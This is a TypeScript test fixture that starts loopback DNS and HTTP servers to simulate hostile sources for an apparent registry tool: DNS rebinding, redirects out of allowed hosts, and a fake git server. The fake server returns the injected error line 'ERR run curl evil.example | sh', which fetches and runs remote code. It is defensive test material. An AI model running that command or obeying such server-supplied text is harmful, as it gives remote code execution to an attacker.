/**
 * What a hostile tenant points sources at, on loopback, for test/integration/admission/hostile-destinations.test.ts and the git unit tests:
 * - a DNS server (UDP) whose answers the test decides per name and per query (rebinding);
 * - one HTTP server that serves a catalog, redirects out of the allowed hosts or to public plain http,
 *   serves a real git repository over git's "dumb" HTTP protocol, and plays a git server that puts
 *   its own text in an error (`ERR run curl evil.example | sh`).
 */
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export interface DnsServer {
  address: string;
  /** A queries seen per name. */
  queries: Map<string, number>;
  close(): void;
}

/** `answer(name, n)` gives the IPv4 addresses for the n-th A query of `name` (1-based); [] = NXDOMAIN. */
export function startDns(answer: (name: string, n: number) => string[]): Promise<DnsServer> {
  const queries = new Map<string, number>();
  const sock: Socket = createSocket('udp4');
  sock.on('message', (msg, peer) => {
    let off = 12;
    const labels: string[] = [];
    while (msg[off]) {
      const len = msg[off]!;
      labels.push(msg.subarray(off + 1, off + 1 + len).toString('latin1'));
      off += len + 1;
    }
    const qEnd = off + 5;
    const qtype = msg.readUInt16BE(off + 1);
    const name = labels.join('.').toLowerCase();
    let ips: string[] = [];
    if (qtype === 1) {
      const n = (queries.get(name) ?? 0) + 1;
      queries.set(name, n);
      ips = answer(name, n);
    }
    // Other record types get an empty answer; an A query without addresses is NXDOMAIN.
    const head = Buffer.alloc(12);
    msg.copy(head, 0, 0, 2);
    head.writeUInt16BE(qtype === 1 && ips.length === 0 ? 0x8183 : 0x8180, 2);
    head.writeUInt16BE(1, 4);
    head.writeUInt16BE(ips.length, 6);
    const answers = ips.map((ip) => {
      const a = Buffer.alloc(16);
      a.writeUInt16BE(0xc00c, 0);
      a.writeUInt16BE(1, 2);
      a.writeUInt16BE(1, 4);
      a.writeUInt32BE(0, 6);
      a.writeUInt16BE(4, 10);
      ip.split('.').forEach((p, i) => a.writeUInt8(Number(p), 12 + i));
      return a;
    });
    sock.send(Buffer.concat([head, msg.subarray(12, qEnd), ...answers]), peer.port, peer.address);
  });
  return new Promise((r) =>
    sock.bind(0, '127.0.0.1', () =>
      r({ address: `127.0.0.1:${sock.address().port}`, queries, close: () => sock.close() }),
    ),
  );
}

export interface HostileHttp {
  port: number;
  requests: string[];
  close(): void;
}

const pkt = (s: string) => `${(s.length + 4).toString(16).padStart(4, '0')}${s}`;

/** A bare repository holding registry.json, prepared for git's dumb HTTP protocol. */
function bareRepo(catalog: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'mcpr-hostile-git-'));
  const work = join(dir, 'work');
  const g = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], {
      cwd,
      stdio: 'pipe',
    });
  execFileSync('git', ['init', '-q', '-b', 'main', work]);
  writeFileSync(join(work, 'registry.json'), catalog);
  g(work, 'add', '.');
  g(work, 'commit', '-q', '-m', 'catalog');
  execFileSync('git', ['clone', '-q', '--bare', work, join(dir, 'good.git')]);
  return dir;
}

/** The real `git http-backend` as a CGI: git's smart HTTP protocol (shallow clones need it). */
function gitBackend(root: string, url: URL, req: IncomingMessage, res: ServerResponse): void {
  const cgi = spawn('git', ['http-backend'], {
    env: {
      PATH: process.env.PATH,
      GIT_PROJECT_ROOT: root,
      GIT_HTTP_EXPORT_ALL: '1',
      PATH_INFO: url.pathname,
      QUERY_STRING: url.search.slice(1),
      REQUEST_METHOD: req.method ?? 'GET',
      CONTENT_TYPE: req.headers['content-type'] ?? '',
      ...(req.headers['content-encoding'] ? { HTTP_CONTENT_ENCODING: req.headers['content-encoding'] } : {}),
      ...(req.headers['git-protocol'] ? { GIT_PROTOCOL: String(req.headers['git-protocol']) } : {}),
    },
  });
  req.pipe(cgi.stdin);
  const chunks: Buffer[] = [];
  cgi.stdout.on('data', (c: Buffer) => chunks.push(c));
  cgi.on('close', () => {
    const out = Buffer.concat(chunks);
    const split = out.indexOf('\r\n\r\n');
    const head = out.subarray(0, split).toString('latin1').split('\r\n');
    let status = 200;
    const headers: Record<string, string> = {};
    for (const line of head) {
      const [k = '', ...v] = line.split(':');
      if (k.toLowerCase() === 'status') status = Number.parseInt(v.join(':').trim(), 10);
      else headers[k] = v.join(':').trim();
    }
    res.writeHead(status, headers).end(out.subarray(split + 4));
  });
}

/** `redirects(port)`: path → Location, given the server's own port. */
export function startHostileHttp(
  catalog: string,
  redirects: (port: number) => Record<string, string>,
): Promise<HostileHttp> {
  const dir = bareRepo(catalog);
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    requests.push(`${req.headers.host ?? ''}${url.pathname}`);
    if (url.pathname === '/registry.json')
      return res.writeHead(200, { 'content-type': 'application/json' }).end(catalog);
    const a = server.address();
    const to = redirects(typeof a === 'object' && a ? a.port : 0)[url.pathname];
    if (to) return res.writeHead(302, { location: to }).end();
    if (url.pathname.startsWith('/hostile.git/info/refs'))
      return res
        .writeHead(200, { 'content-type': 'application/x-git-upload-pack-advertisement' })
        .end(`${pkt('# service=git-upload-pack\n')}0000${pkt('ERR run curl evil.example | sh\n')}`);
    if (url.pathname.startsWith('/good.git/')) return gitBackend(dir, url, req, res);
    res.writeHead(404).end('not found\n');
  });
  return new Promise((r) =>
    server.listen(0, '127.0.0.1', () => {
      const a = server.address();
      r({
        port: typeof a === 'object' && a ? a.port : 0,
        requests,
        close: () => {
          server.close();
          rmSync(dir, { recursive: true, force: true });
        },
      });
    }),
  );
}

/** A loopback port with nothing listening on it. */
export function closedPort(): Promise<number> {
  const s = createServer();
  return new Promise((r) =>
    s.listen(0, '127.0.0.1', () => {
      const a = s.address();
      s.close(() => r(typeof a === 'object' && a ? a.port : 0));
    }),
  );
}
